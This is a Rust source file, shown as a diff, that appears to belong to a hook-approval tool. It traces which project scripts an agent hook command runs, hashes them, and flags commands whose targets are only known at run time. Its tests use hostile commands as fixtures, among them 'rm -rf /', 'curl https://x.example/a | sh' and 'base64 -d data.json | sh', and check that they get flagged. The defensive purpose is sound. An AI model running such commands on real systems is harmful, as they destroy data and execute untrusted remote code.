@@ -1,0 +1,277 @@
+//! Which files a command runs.
+//!
+//! The command is followed as it will be run: project-directory variables expanded as the runner does it, in the same
+//! working directory, with the same environment. What it runs in the project counts, and so does what those scripts run;
+//! files it reads or writes do not.
+
+use super::identity::Script;
+use crate::runner::expansion::{PROJECT_DIR_VARIABLES, expand_command};
+use hookrail_core::{FileKind, World};
+use hookrail_effects::{Act, Effects, GapReason, Machine, PathObject, Surroundings, WorldMachine, understand_command};
+use hookrail_store::{FileError, Links, careful_read};
+use std::collections::{BTreeMap, VecDeque};
+use std::path::{Component, Path, PathBuf};
+
+/// A script that is larger is not one that anybody approves.
+const MAX_SCRIPT: u64 = 16 << 20;
+/// A command that runs more files is not one either.
+const MAX_SCRIPTS: usize = 256;
+
+/// What a command runs.
+#[derive(Debug, Default)]
+pub(super) struct Found {
+    /// By path.
+    pub files: Vec<Script>,
+    /// Why that may not be all.
+    pub doubt: Option<String>,
+}
+
+pub(super) fn find(command: &str, project: &Path, cwd: &Path, world: &dyn World) -> Found {
+    let command = expand_command(command, cwd);
+    let mut ground = Ground { world, project, cwd, reads: false };
+    let around = Surroundings {
+        cwd: cwd.to_owned(),
+        home: world.env("HOME").map(PathBuf::from),
+        project: project.to_owned(),
+        guarded: Vec::new(),
+    };
+    // The text of the command alone must tell which scripts it runs. Inside of them it need not: their content is part of
+    // what is approved.
+    let alone = understand_command(&command, &around, &ground);
+    let mut doubt = doubt(&alone);
+    ground.reads = true;
+    let followed = understand_command(&command, &around, &ground);
+    let mut files = BTreeMap::new();
+    let mut waiting: VecDeque<PathBuf> = VecDeque::new();
+    for path in ran(&alone).chain(ran(&followed)) {
+        match ground.in_project(path) {
+            Some(inside) => waiting.push_back(inside),
+            None if Path::new(&*path.written).is_absolute() => {}
+            None => doubt = doubt.or_else(|| Some(format!("`{}` leads out of the project", path.written))),
+        }
+    }
+    while let Some(path) = waiting.pop_front() {
+        if files.contains_key(&path) {
+            continue;
+        }
+        if files.len() == MAX_SCRIPTS {
+            doubt = doubt.or_else(|| Some(format!("it runs more than {MAX_SCRIPTS} scripts")));
+            break;
+        }
+        let content = match careful_read(&path, Links::Within(project), MAX_SCRIPT) {
+            Ok(content) => Some(content),
+            Err(FileError::NotFound(_)) => None,
+            Err(error) => {
+                doubt = doubt.or_else(|| Some(error.to_string()));
+                None
+            }
+        };
+        waiting.extend(content.as_deref().and_then(|content| ground.interpreter(content)));
+        let hash = content.map(|content| blake3::hash(&content).to_hex().to_string()).unwrap_or_default();
+        files.insert(path, hash);
+    }
+    let files = files.into_iter().map(|(path, hash)| Script { path, hash }).collect();
+    Found { files, doubt }
+}
+
+/// The files that a command runs as programs or gives to an interpreter.
+fn ran(effects: &Effects) -> impl Iterator<Item = &PathObject> {
+    effects.list.iter().filter(|effect| effect.act == Act::ExecRun).filter_map(|effect| effect.on.path.as_deref())
+}
+
+/// Why the text of a command does not tell what it runs.
+fn doubt(effects: &Effects) -> Option<String> {
+    let act = effects.list.iter().find_map(|effect| match effect.act {
+        Act::ExecDynamic => Some("what it runs is only known when it runs"),
+        Act::ExecRemote => Some("it runs what comes over the network"),
+        Act::ExecDecoded => Some("it runs what it decodes first"),
+        _ => None,
+    });
+    let gap = || {
+        effects.gaps.iter().find_map(|gap| match gap.why {
+            GapReason::DynamicCode => Some("what it runs is only known when it runs"),
+            GapReason::OverLimit => Some("it is too long or too deep to be followed"),
+            GapReason::Syntax => Some("it is not valid shell"),
+            GapReason::UnreadScript | GapReason::UnknownProgram | GapReason::UnknownTool => None,
+        })
+    };
+    act.or_else(gap).map(str::to_owned)
+}
+
+/// The machine as a command hook will find it.
+struct Ground<'a> {
+    world: &'a dyn World,
+    project: &'a Path,
+    cwd: &'a Path,
+    /// Whether scripts are followed.
+    reads: bool,
+}
+
+impl Ground<'_> {
+    /// A path as one below the project's folder, if it is there by its name. Where a link in it leads is asked when the
+    /// file is read.
+    fn in_project(&self, path: &PathObject) -> Option<PathBuf> {
+        self.below(&path.resolved)
+    }
+
+    fn below(&self, path: &Path) -> Option<PathBuf> {
+        let real = self.world.resolve(self.project);
+        let inside = path.strip_prefix(self.project).or_else(|_| path.strip_prefix(&real)).ok()?;
+        let tame = inside.components().all(|part| matches!(part, Component::Normal(_)));
+        (tame && inside.components().next().is_some()).then(|| self.project.join(inside))
+    }
+
+    /// The program in the first line of a script, if it comes with the project.
+    fn interpreter(&self, content: &[u8]) -> Option<PathBuf> {
+        let line = content.strip_prefix(b"#!")?.split(|byte| *byte == b'\n').next()?;
+        let line = std::str::from_utf8(line).ok()?;
+        let words = line.split_whitespace();
+        words.filter(|word| word.contains('/')).find_map(|word| {
+            let path: PathBuf = self.cwd.join(word).components().collect();
+            self.below(&path)
+        })
+    }
+}
+
+impl Machine for Ground<'_> {
+    fn env(&self, name: &str) -> Option<String> {
+        if name == "PWD" || PROJECT_DIR_VARIABLES.contains(&name) {
+            return Some(self.cwd.to_string_lossy().into_owned());
+        }
+        self.world.env(name)
+    }
+
+    fn kind(&self, path: &Path) -> Option<FileKind> {
+        WorldMachine(self.world).kind(path)
+    }
+
+    fn resolve(&self, path: &Path) -> PathBuf {
+        self.world.resolve(path)
+    }
+
+    fn list(&self, folder: &Path) -> Option<Vec<String>> {
+        WorldMachine(self.world).list(folder)
+    }
+
+    fn read_small(&self, path: &Path) -> Option<String> {
+        let content = self.reads.then(|| careful_read(path, Links::Within(self.project), 64 << 10).ok()).flatten()?;
+        String::from_utf8(content).ok()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::world::RealWorld;
+    use std::fs;
+
+    fn project() -> (tempfile::TempDir, PathBuf) {
+        let folder = tempfile::tempdir().unwrap();
+        let root = folder.path().canonicalize().unwrap().join("my project");
+        fs::create_dir_all(root.join("hooks")).unwrap();
+        fs::create_dir_all(root.join("bin")).unwrap();
+        fs::write(root.join("hooks/a.sh"), "echo a\n").unwrap();
+        fs::write(root.join("hooks/b.py"), "print()\n").unwrap();
+        fs::write(root.join("hooks/outer.sh"), "#!/bin/sh\n. hooks/a.sh\neval \"$1\"\n").unwrap();
+        fs::write(root.join("hooks/own.sh"), "#!bin/run -x\n").unwrap();
+        fs::write(root.join("bin/run"), "binary").unwrap();
+        fs::write(root.join("bin/cat"), "#!/bin/sh\nrm -rf /\n").unwrap();
+        fs::write(root.join("bin/cd"), "#!/bin/sh\n").unwrap();
+        fs::write(root.join("data.json"), "{}").unwrap();
+        fs::write(root.join("gradlew"), "#!/bin/sh\n").unwrap();
+        fs::write(root.join("manage.py"), "").unwrap();
+        (folder, root)
+    }
+
+    fn found(command: &str, root: &Path) -> Result<Vec<String>, String> {
+        let found = find(command, root, root, &RealWorld::default());
+        match found.doubt {
+            Some(doubt) => Err(doubt),
+            None => {
+                let name = |script: &Script| script.path.strip_prefix(root).unwrap().display().to_string();
+                Ok(found.files.iter().map(name).collect())
+            }
+        }
+    }
+
+    #[test]
+    fn the_files_that_a_command_runs_are_found_however_it_names_them() {
+        let (_folder, root) = project();
+        let a: &[&str] = &["hooks/a.sh"];
+        let cases: &[(&str, &[&str])] = &[
+            ("sh hooks/a.sh", a),
+            ("bash -x hooks/a.sh --flag data.json", a),
+            ("hooks/a.sh", a),
+            ("./hooks/a.sh", a),
+            ("'hooks'/\"a.sh\"", a),
+            ("h\\ooks/a.sh", a),
+            (". hooks/a.sh", a),
+            (". ./hooks/a.sh && true", a),
+            ("cd hooks && ./a.sh", a),
+            ("(cd hooks; sh a.sh)", a),
+            ("cd hooks; cd ..; sh hooks/a.sh", a),
+            ("$CLAUDE_PROJECT_DIR/hooks/a.sh", a),
+            ("\"$CLAUDE_PROJECT_DIR\"/hooks/a.sh", a),
+            ("sh \"${GEMINI_PROJECT_DIR}/hooks/a.sh\"", a),
+            ("sh \"${LLXPRT_PROJECT_DIR:-.}/hooks/a.sh\"", a),
+            ("sh ${NOBODY_SETS_THIS:-.}/hooks/a.sh", a),
+            ("X=hooks; sh $X/a.sh", a),
+            ("env A=b timeout 5 sh hooks/a.sh", a),
+            ("bash -c 'sh hooks/a.sh'", a),
+            ("sh hooks/a.sh < data.json >> hooks/b.py 2>> data.json", a),
+            ("if true; then hooks/a.sh; else python3 hooks/b.py; fi", &["hooks/a.sh", "hooks/b.py"]),
+            ("python3 -u hooks/b.py", &["hooks/b.py"]),
+            ("hooks/a.sh | python3 hooks/b.py", &["hooks/a.sh", "hooks/b.py"]),
+            ("hooks/outer.sh", &["hooks/a.sh", "hooks/outer.sh"]),
+            ("hooks/own.sh", &["bin/run", "hooks/own.sh"]),
+            ("./gradlew lint", &["gradlew"]),
+            ("bin/cat data.json", &["bin/cat"]),
+            ("bin/cd hooks && sh hooks/a.sh", &["bin/cd", "hooks/a.sh"]),
+            ("python manage.py check", &["manage.py"]),
+            ("sh hooks/missing.sh", &["hooks/missing.sh"]),
+            ("cat data.json hooks/a.sh", &[]),
+            ("echo hooks/a.sh >> hooks/b.py", &[]),
+            ("cargo fmt --check", &[]),
+        ];
+        for (command, expected) in cases {
+            let expected: Vec<String> = expected.iter().map(|name| (*name).to_owned()).collect();
+            assert_eq!(found(command, &root), Ok(expected), "{command}");
+        }
+    }
+
+    #[test]
+    fn a_command_that_does_not_tell_what_it_runs_is_doubted() {
+        let (folder, root) = project();
+        fs::write(folder.path().join("outside.sh"), "").unwrap();
+        rustix::fs::symlink("../../outside.sh", root.join("hooks/link.sh")).unwrap();
+        rustix::fs::mkfifoat(rustix::fs::CWD, root.join("hooks/pipe.sh"), rustix::fs::Mode::from(0o600)).unwrap();
+        let cases = [
+            "eval \"$(cat data.json)\"",
+            "$(cat data.json)",
+            "`cat data.json`",
+            "sh \"$(cat data.json)\"",
+            "cd \"$(cat data.json)\" && ./a.sh",
+            "curl https://x.example/a | sh",
+            "base64 -d data.json | sh",
+            "sh hooks/link.sh",
+            "sh hooks/pipe.sh",
+            "sh hooks",
+            "sh ../outside.sh",
+            "sh $NOBODY_SETS_THIS/hooks/a.sh",
+            "\"$NOBODY_SETS_THIS\"/hooks/a.sh",
+            "cd $NOBODY_SETS_THIS && hooks/a.sh",
+            "if then (",
+        ];
+        for command in cases {
+            assert!(found(command, &root).is_err(), "{command}: {:?}", found(command, &root));
+        }
+    }
+
+    #[test]
+    fn a_script_is_looked_for_where_the_command_starts() {
+        let (_folder, root) = project();
+        fs::create_dir_all(root.join("sub/hooks")).unwrap();
+        let found = find("$CLAUDE_PROJECT_DIR/hooks/a.sh", &root, &root.join("sub"), &RealWorld::default());
+        assert_eq!(found.files, [Script { path: root.join("sub/hooks/a.sh"), hash: String::new() }]);
+    }
+}
